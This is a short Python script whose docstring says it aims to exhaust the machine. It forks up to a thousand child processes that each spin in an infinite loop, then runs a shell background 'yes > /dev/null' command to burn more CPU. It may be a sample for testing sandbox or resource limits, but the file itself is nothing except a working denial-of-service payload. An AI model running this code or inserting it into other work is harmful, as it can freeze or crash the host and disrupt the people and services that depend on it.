"""Starts processes without end (and a shell command), hoping to exhaust the machine."""
import os
import subprocess

for _ in range(1000):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
subprocess.run("yes > /dev/null &", shell=True)
